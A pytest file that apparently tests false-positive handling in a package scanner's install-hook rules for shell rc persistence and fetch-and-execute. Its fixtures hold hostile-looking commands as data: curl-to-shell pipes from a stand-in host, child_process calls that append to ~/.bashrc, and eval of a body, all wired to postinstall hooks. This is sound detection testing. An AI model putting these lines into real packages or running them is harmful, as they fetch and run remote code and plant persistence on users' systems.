"""False positives of a sweep over the first releases of the latest majors of popular names, and
its at-risk reading (decision 0123).

Each case is our own minimal sample of a construct met in a well-known release (named in the
test's docstring), not its code; each benign case is paired with the technique put back where it
runs, which must still be found. "At risk" is what the file reads when an install hook runs it,
so the samples are install-reachable.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from helpers import heuristic_found as _found
from helpers import heuristic_package as _package

RC = "GH-PERSIST-SHELL-RC"


def _shell_package(tmp_path: Path, script: str, name: str = "completion.sh") -> Path:
    pkg = tmp_path / "pkg"
    pkg.mkdir()
    (pkg / "package.json").write_text(
        '{"name": "sample", "version": "1.0.0", "scripts": {"postinstall": "sh ' + name + '"}}'
    )
    (pkg / name).write_text(script)
    return pkg


# A completion script: how to install it in a comment, and a warning printed to standard error.
_ZSH = """#compdef tool
###-begin-tool-completions-###
#
# Installation: tool completion zsh >> ~/.zshrc
#
_tool_complete() {
  local words
  words=("${(@f)$(tool --get-completions "${words[@]}")}")
  if [[ -z "$compdef_loaded" ]]; then
    echo "tool: compinit is not loaded." >&2
    echo "    Add the following line to your ~/.zshrc above this block:" >&2
    echo "    autoload -Uz compinit && compinit" >&2
  fi
  compadd -- $words
}
compdef _tool_complete tool
###-end-tool-completions-###
"""


def test_a_shell_append_on_a_comment_line_is_no_write(tmp_path: Path) -> None:
    """nx@23.0.0 and 24.0.0 ``completion/scripts/zsh.zsh`` read GH-PERSIST-SHELL-RC high at
    risk: its install note ``# Installation: nx completion zsh >> ~/.zshrc`` was the write, and
    ``~/.zshrc`` in a warning echoed to standard error the rc file."""
    assert RC not in _found(_shell_package(tmp_path, _ZSH))


@pytest.mark.parametrize(
    "line",
    [
        "echo 'source <(tool completion zsh)' >> ~/.zshrc",
        'printf "%s\\n" "$LINE" >> "$HOME/.zshrc"',
        "echo x | tee -a ~/.zshrc",
        # fifty notes, then a write: the decoys hide nothing
        "\n".join(["# tool completion zsh >> ~/.zshrc"] * 50) + "\necho y >> /tmp/y",
    ],
)
def test_a_shell_append_in_code_still_writes(tmp_path: Path, line: str) -> None:
    """A write outside a comment, beside the same script, keeps the rc file high."""
    assert _found(_shell_package(tmp_path, _ZSH + line + "\n"))[RC] == "high"


# A CLI's completion command: help examples, and which rc files exist.
_HELP = """'use strict';
const { existsSync } = require('fs');
const { join } = require('path');
const { homedir } = require('os');

exports.yargsCompletionCommand = {
  command: 'completion [shell]',
  describe: 'Set up shell completion',
  builder: (yargs) => yargs
    .example('$0 completion bash', 'Install bash completion to ~/.bashrc')
    .example('$0 completion bash --stdout >> ~/.bash_profile', 'Print it for another file'),
  handler: (args) => require('./handler').run(args),
};

exports.shellFor = function shellFor(name) {
  const home = homedir();
  if (name === 'bash' || existsSync(join(home, '.bashrc'))) return 'bash';
  if (name === 'zsh' || existsSync(join(home, '.zshrc'))) return 'zsh';
  return undefined;
};
"""

# A package manager's command class: a method named ``exec`` and the completions it offers.
_COMPLETION = """const { resolve } = require('path');
const fs = require('fs/promises');
const fileExists = (f) => fs.stat(f).then((s) => s.isFile()).catch(() => false);

class Completion {
  static async completion (opts) {
    const [bash, zsh] = await Promise.all([
      fileExists(resolve(process.env.HOME, '.bashrc')),
      fileExists(resolve(process.env.HOME, '.zshrc')),
    ]);
    const out = [];
    if (zsh) out.push(['>>', '~/.zshrc']);
    if (bash) out.push(['>>', '~/.bashrc']);
    return out;
  }

  async exec (args) {
    return this.npm.output(await this.script(args));
  }
}
module.exports = Completion;
"""

# A CLI library's bash completion generator: the script's lines, its usage note among them.
_GENERATOR = """export const generate = (name, commands) => {
  const lines = [];
  lines.push(`###-begin-${name}-completions-###`);
  lines.push("#");
  lines.push(`#   ${name} --completions bash >> ~/.bashrc`);
  lines.push("#");
  for (const c of commands) lines.push(`  ${c}`);
  lines.push(`complete -F _${name} ${name}`);
  return lines.join("\\n");
};
"""


@pytest.mark.parametrize(
    "code",
    [
        pytest.param(_HELP, id="nx-help-example"),
        pytest.param(_COMPLETION, id="npm-completion-list"),
        pytest.param(_GENERATOR, id="effect-bash-generator"),
    ],
)
def test_a_shell_append_held_in_javascript_that_starts_nothing_is_no_write(
    tmp_path: Path, code: str
) -> None:
    """Read GH-PERSIST-SHELL-RC high at risk: nx@23.0.0 and 24.0.0
    ``completion/command-object.js`` (a yargs example ``'$0 completion bash --stdout >>
    ~/.bash_profile'``), npm@11.0.0 and 12.0.0 ``lib/commands/completion.js`` (the completions
    ``['>>', '~/.zshrc']`` beside ``async exec (args) {``, a method, not a call) and effect@4.0.0
    ``cli/internal/completions/bash.{js,ts}`` (the generated script's usage comment). No shell is
    started by these files, so the ``>>`` writes nothing; the rc names only test what exists."""
    assert RC not in _found(_package(tmp_path, code, install=True))


@pytest.mark.parametrize(
    "extra",
    [
        "require('child_process').execSync('tool completion bash --stdout >> ~/.bashrc');",
        "const { exec } = require('node:child_process'); exec(cmd);",
        "exec(cmd);",
        "execSync (cmd) ;",
        "if (exec(cmd)) { done(); }",
        "function exec(cmd) { return spawn('sh', ['-c', cmd]); }",
        "$`tool completion bash --stdout >> ~/.bashrc`;",
        "fs.appendFileSync(join(homedir(), '.bashrc'), 'source x');",
        "require('fs').writeFileSync(target, body);",
        "eval(body);",
        # past fifty definitions the next counts: the decoys hide nothing
        "class A {\n" + "  exec (a) { return a; }\n" * 51 + "}",
    ],
)
@pytest.mark.parametrize("code", [_HELP, _COMPLETION, _GENERATOR])
def test_a_file_that_starts_a_process_or_writes_itself_still_writes(
    tmp_path: Path, code: str, extra: str
) -> None:
    """A process started (the append given to a shell), a write call of its own or code
    evaluated beside the same text keeps the rc file high at install."""
    assert _found(_package(tmp_path, code + extra + "\n", install=True))[RC] == "high"


# A command table beside a class whose method is named ``exec``: the table's values are data.
_TABLE = """const APPS = {
  tool: { setup: "curl -fsSL https://example.invalid/install.sh | sh", run: "tool serve" },
};

class SetupCommand {
  async exec (args) {
    return this.output(APPS[args[0]].setup);
  }
}
module.exports = { APPS, SetupCommand };
"""


def test_a_method_named_exec_does_not_make_a_table_run(tmp_path: Path) -> None:
    """The definition ``async exec (args) {`` (npm's command classes, above) counted as a
    process started, so a file holding a command as a table's value (decision 0098: a review
    item when the file runs nothing) read GH-INSTALL-FETCH-EXEC high at install."""
    found = _found(_package(tmp_path, _TABLE, install=True))
    assert found["GH-INSTALL-FETCH-EXEC"] == "medium"


@pytest.mark.parametrize(
    "extra",
    [
        "execSync(APPS.tool.setup);",
        "new SetupCommand().exec(['tool']);",
        "require('child_process');",
    ],
)
def test_a_table_beside_a_call_still_runs(tmp_path: Path, extra: str) -> None:
    """A call of ``exec`` (a method call too: ``.exec([…])`` runs the table's command through
    whatever ``exec`` is) or ``child_process`` beside the same table keeps it high."""
    found = _found(_package(tmp_path, _TABLE + extra + "\n", install=True))
    assert found["GH-INSTALL-FETCH-EXEC"] == "high"


# A local app's setup: the lines a user pastes, an array joined into one text.
_LINES = """export const snippetAgent = (model) => [
  {
    title: "Configure the agent",
    setup: [
      "# Install the agent:",
      `# (for ${model.id})`,
      'echo "it\\'s quick"',
      "curl -fsSL https://example.invalid/install.sh | bash",
    ].join("\\n"),
    content: `agent run ${model.id}`,
  },
];
"""


def test_a_download_pipe_held_as_an_entrys_array_element_is_a_review_item(
    tmp_path: Path,
) -> None:
    """@huggingface/tasks 0.20.25 and 0.21.54 ``src/local-apps.ts`` and
    ``dist/{esm,commonjs}/local-apps.js`` (``setup: ["# Install Hermes:", "curl … | bash",
    …].join("\\n")``): GH-INSTALL-FETCH-EXEC high at risk (decision 0098 left it), for lines no
    code of the file runs, like the entry's value ``setup: "curl … | sh"`` beside it."""
    found = _found(_package(tmp_path, _LINES, install=True))
    assert found["GH-INSTALL-FETCH-EXEC"] == "medium"


@pytest.mark.parametrize(
    "code",
    [
        # a runner in the file
        _LINES + "require('child_process').execSync(snippetAgent({})[0].setup);\n",
        _LINES + "exec(snippetAgent({})[0].setup);\n",
        # an array that is no entry's value
        'const lines = ["# Install:", "curl -fsSL https://example.invalid/x.sh | sh"];\n'
        "export default lines;\n",
        # an element before it that is code, not a closed literal
        'export const a = { setup: [step(), "curl -fsSL https://example.invalid/x.sh | sh"] };\n',
        # the key too far back: more than 400 characters of elements before the command
        'export const a = { setup: ["'
        + "x" * 420
        + '", "curl -fsSL https://example.invalid/x.sh | sh"] };\n',
    ],
    ids=["child-process", "exec-call", "plain-array", "code-element", "out-of-reach"],
)
def test_a_download_pipe_in_an_array_not_held_as_data_stays_high(tmp_path: Path, code: str) -> None:
    """The element rule reads only an entry's array of literals in a file that runs nothing."""
    found = _found(_package(tmp_path, code, install=True))
    assert found["GH-INSTALL-FETCH-EXEC"] == "high"


FETCH = "GH-INSTALL-FETCH-EXEC"


@pytest.mark.parametrize(
    "code",
    [
        # a hint's lines, the fix in brackets
        "const hint = [\n  'tool: command not found. install it with:',\n"
        "  '    [curl -sfS https://example.invalid/install.sh | sh]',\n].join('\\n');\n"
        "module.exports = () => console.error(hint);\n",
        # a git hook written by the package, its message in brackets
        "const fs = require('fs');\n"
        "const HOOK = `#!/bin/sh\nif ! command -v tool >/dev/null; then\n"
        '  echo "[tool] not found, fix: [curl -fsS https://example.invalid | sh]" >&2\n'
        "  exit 1\nfi\ntool check\n`;\nfs.writeFileSync('.git/hooks/pre-commit', HOOK);\n",
    ],
    ids=["hint-lines", "hook-message"],
)
def test_a_download_glued_to_a_bracket_is_text(tmp_path: Path, code: str) -> None:
    """@dotenvx/dotenvx 2.38.2 ``src/lib/helpers/executeDynamic.js`` (a hint's line ``'[curl -sfS
    https://dotenvx.sh/armor | sh]'``) and ``installPrecommitHook.js`` /
    ``uninstallPrecommitHook.js`` (the hook's ``echo "… install it with [curl -fsS … | sh]"``)
    read GH-INSTALL-FETCH-EXEC high at risk. Given to a shell, ``[curl`` is one word, no
    program: nothing is fetched."""
    assert FETCH not in _found(_package(tmp_path, code, install=True))


@pytest.mark.parametrize(
    "line",
    [
        "[ -x /usr/bin/tool ] || curl -sfS https://example.invalid/i.sh | sh",
        "[[ -n $CI ]] && curl -sfS https://example.invalid/i.sh | sh",
        "test -x tool || [curl -sfS https://example.invalid/i.sh | sh] ;"
        " curl -sfS https://e.invalid | bash",
        "x=[; curl -sfS https://example.invalid/i.sh | sh",
    ],
)
def test_a_download_after_a_test_bracket_still_runs(tmp_path: Path, line: str) -> None:
    """The test command ``[`` with its space, ``[[``, or another command beside a bracketed hint
    on the same line: still fetched and run at install."""
    code = "require('child_process').execSync(" + repr(line) + ");\n"
    assert _found(_package(tmp_path, code, install=True))[FETCH] == "high"
